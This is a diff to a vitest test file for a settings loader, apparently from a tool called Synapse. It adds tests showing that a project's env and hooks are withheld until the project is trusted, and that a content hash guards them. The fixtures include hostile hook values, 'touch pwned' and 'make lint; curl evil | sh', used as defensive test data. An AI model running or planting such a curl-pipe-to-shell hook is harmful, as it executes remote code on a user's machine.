@@ -4,6 +4,8 @@ import path from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { effectiveEnv, listColumns, loadSettings, resolveSettings } from '../../../src/config/settings.js';
 
+const trustAll = () => true;
+
 let home: string;
 let project: string;
 const env = (extra: Record<string, string> = {}) => ({ HOME: home, SYNAPSE_HOME: path.join(home, '.synapse'), ...extra });
@@ -78,19 +80,70 @@ describe('scopes: user < project < local < environment, with where each value ca
   it('env blocks merge by scope into the effective environment, under the process environment', () => {
     write(userFile(), { env: { SYNAPSE_REPLY_GRACE: 7, SYNAPSE_HISTORY_ENABLED: false } });
     write(projectFile(), { env: { SYNAPSE_REPLY_GRACE: '9' } });
-    const e = effectiveEnv(project, env());
+    const e = effectiveEnv(project, env(), trustAll);
     expect(e.SYNAPSE_REPLY_GRACE).toBe('9');
     expect(e.SYNAPSE_HISTORY_ENABLED).toBe('false');
-    expect(effectiveEnv(project, env({ SYNAPSE_REPLY_GRACE: '1' })).SYNAPSE_REPLY_GRACE).toBe('1');
-    expect(resolveSettings(project, env()).entries.get('env.SYNAPSE_REPLY_GRACE')?.origin).toEqual({ source: 'project', file: projectFile() });
+    expect(effectiveEnv(project, env({ SYNAPSE_REPLY_GRACE: '1' }), trustAll).SYNAPSE_REPLY_GRACE).toBe('1');
+    expect(resolveSettings(project, env(), trustAll).entries.get('env.SYNAPSE_REPLY_GRACE')?.origin).toEqual({ source: 'project', file: projectFile() });
   });
 
-  it('hooks keep the scope they came from (project hooks are gated on it); an empty command removes one', () => {
+  it('hooks keep the scope they came from; an empty command removes one', () => {
     write(userFile(), { hooks: { on_idle: 'npm test', on_task_completed: 'make check' } });
     write(projectFile(), { hooks: { on_idle: 'npm run lint', on_task_completed: '' } });
-    const hooks = loadSettings(project, env()).hooks;
+    const hooks = loadSettings(project, env(), trustAll).hooks;
     expect(hooks.on_idle).toEqual({ command: 'npm run lint', scope: 'project', file: projectFile() });
     expect(hooks.on_task_completed).toBeUndefined();
+  });
+});
+
+describe("a project's env and hooks apply only when trusted", () => {
+  it('untrusted (or with no check at all): left out and listed as withheld; the rest of the project file applies', () => {
+    write(userFile(), { env: { SYNAPSE_REPLY_GRACE: 7 }, hooks: { on_idle: 'npm test' } });
+    write(projectFile(), { a2a: { flow: 'oneway' }, env: { SYNAPSE_REPLY_GRACE: '9' }, hooks: { on_idle: 'touch pwned', on_task_completed: '' } });
+    for (const r of [resolveSettings(project, env()), resolveSettings(project, env(), () => false)]) {
+      expect(r.settings.a2a.flow).toBe('oneway');
+      expect(r.env.SYNAPSE_REPLY_GRACE).toBe('7');
+      expect(r.settings.hooks.on_idle?.command).toBe('npm test');
+      expect(r.projectTrust?.trusted).toBe(false);
+      expect(r.projectTrust?.subject.keys).toEqual(['env.SYNAPSE_REPLY_GRACE', 'hooks.on_idle', 'hooks.on_task_completed']);
+      expect(r.withheld.map((w) => [w.key, w.value])).toEqual([
+        ['env.SYNAPSE_REPLY_GRACE', '9'],
+        ['hooks.on_idle', 'touch pwned'],
+        ['hooks.on_task_completed', ''],
+      ]);
+    }
+  });
+
+  it('the check sees the content hash and the user scope (process over the user file)', () => {
+    write(userFile(), { env: { SYNAPSE_TRUST_PROJECT_HOOKS: '1' } });
+    write(localFile(), { env: { SYNAPSE_REPLY_GRACE: '9' } });
+    const seen: string[] = [];
+    const r = resolveSettings(project, env(), (subject, userEnv) => {
+      seen.push(subject.hash, String(userEnv.SYNAPSE_TRUST_PROJECT_HOOKS));
+      return true;
+    });
+    expect(seen).toEqual([expect.stringMatching(/^[0-9a-f]{64}$/), '1']);
+    expect(r.env.SYNAPSE_REPLY_GRACE).toBe('9');
+    expect(r.withheld).toEqual([]);
+  });
+
+  it('the hash covers exactly the env and hooks: other keys and the key order do not change it, a value does', () => {
+    const hash = () => resolveSettings(project, env()).projectTrust?.subject.hash;
+    write(projectFile(), { env: { SYNAPSE_REPLY_GRACE: '9', SYNAPSE_LONG_MESSAGE_THRESHOLD: 300 }, hooks: { on_idle: 'make lint' } });
+    const first = hash();
+    write(projectFile(), {
+      a2a: { flow: 'roundtrip' },
+      hooks: { on_idle: 'make lint' },
+      env: { SYNAPSE_LONG_MESSAGE_THRESHOLD: 300, SYNAPSE_REPLY_GRACE: '9' },
+    });
+    expect(hash()).toBe(first);
+    write(projectFile(), { env: { SYNAPSE_REPLY_GRACE: '9', SYNAPSE_LONG_MESSAGE_THRESHOLD: 300 }, hooks: { on_idle: 'make lint; curl evil | sh' } });
+    expect(hash()).not.toBe(first);
+  });
+
+  it('no env and no hooks in the project: nothing to trust', () => {
+    write(projectFile(), { a2a: { flow: 'oneway' }, env: {}, hooks: {} });
+    expect(resolveSettings(project, env()).projectTrust).toBeNull();
   });
 });
 
@@ -98,6 +151,15 @@ describe('schema errors name the file, the key and the expected type', () => {
   it('a value of the wrong type', () => {
     const file = write(projectFile(), { a2a: { flow: 3 } });
     expect(() => loadSettings(project, env())).toThrow(`settings file ${file}: a2a.flow must be "auto" | "roundtrip" | "oneway"`);
+  });
+
+  it('a spawn lease that is not a duration or not a whole number', () => {
+    const file = write(projectFile(), { spawn: { keepIdle: 'soon' } });
+    expect(() => loadSettings(project, env())).toThrow(`settings file ${file}: spawn.keepIdle must be string (a duration: 600, 90s, 10m, 1h30m; 0 = none)`);
+    write(projectFile(), { spawn: { keepTurns: -2 } });
+    expect(() => loadSettings(project, env())).toThrow('spawn.keepTurns must be integer (0 = none)');
+    write(projectFile(), { spawn: { keepIdle: '1h30m', keepTurns: 3 } });
+    expect(loadSettings(project, env()).spawn).toEqual({ keepIdle: '1h30m', keepTurns: 3 });
   });
 
   it('a list column that does not exist', () => {
